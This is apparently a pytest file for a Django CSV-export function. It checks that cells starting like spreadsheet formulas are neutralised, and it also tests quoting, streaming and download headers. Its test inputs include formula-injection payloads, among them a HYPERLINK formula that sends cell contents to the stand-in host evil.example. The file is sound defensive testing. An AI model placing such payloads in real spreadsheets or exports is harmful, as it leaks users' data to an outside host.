"""Tables for spreadsheets: what stands in them is read, and nothing in them is run."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from django.utils.translation import gettext_lazy

from accounts.csv import stream_csv


def text_of(answer: StreamingHttpResponse) -> str:
    return answer.getvalue().decode("utf-8-sig")


def cells(*row: object) -> list[str]:
    """What a reader finds of these cells."""
    _header, read = csv.reader(text_of(stream_csv("table", ["a"], [row])).splitlines())
    return read


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        '=HYPERLINK("https://evil.example?x="&A1)',
        "  =1+1",
        "\t=1+1",
        "\tx",
        "\r=1+1",
        "＝1+1",  # noqa: RUF001
        "＠SUM(A1)",  # noqa: RUF001
    ],
)
def test_no_cell_begins_like_a_formula(formula: str) -> None:
    answer = text_of(stream_csv("table", [formula], [[formula]]))
    for line in answer.split("\r\n")[:2]:
        assert line.startswith("\"'")


def test_what_no_spreadsheet_runs_stays_as_it_is() -> None:
    assert cells("Zoë", "a=b", "me@example.com", "x-1", "", "'") == [
        "Zoë",
        "a=b",
        "me@example.com",
        "x-1",
        "",
        "'",
    ]


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell() -> None:
    assert cells(-1, 2.5, Decimal("-0.10"), None, True) == ["-1", "2.5", "-0.10", "", "True"]


def test_times_are_exact_and_words_are_in_the_readers_language() -> None:
    moment = datetime(2026, 11, 26, 18, 17, tzinfo=UTC)
    assert cells(moment, date(2026, 11, 23), gettext_lazy("person")) == [
        "2026-11-26T18:17:00+00:00",
        "2026-11-23",
        "person",
    ]


def test_separators_quotes_and_line_breaks_begin_no_cell() -> None:
    awkward = 'a",=1+1;=2+2\n=3+3'
    answer = text_of(stream_csv("table", ["a", "b"], [[awkward, 1]]))
    assert list(csv.reader(answer.splitlines(keepends=True))) == [["a", "b"], [awkward, "1"]]
    assert answer.startswith('"a","b"\r\n"a"",')


def test_rows_are_read_while_they_are_sent() -> None:
    read = []

    def rows() -> Iterator[list[int]]:
        for number in range(3):
            read.append(number)
            yield [number]

    sent = iter(stream_csv("table", ["number"], rows()))
    assert (next(sent), read) == ('\ufeff"number"\r\n'.encode(), [])
    assert (next(sent), read) == (b'"0"\r\n', [0])


def test_it_is_a_download_of_that_name() -> None:
    answer = stream_csv("people 2026", [], [])
    assert answer.headers["Content-Disposition"] == 'attachment; filename="people 2026.csv"'
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
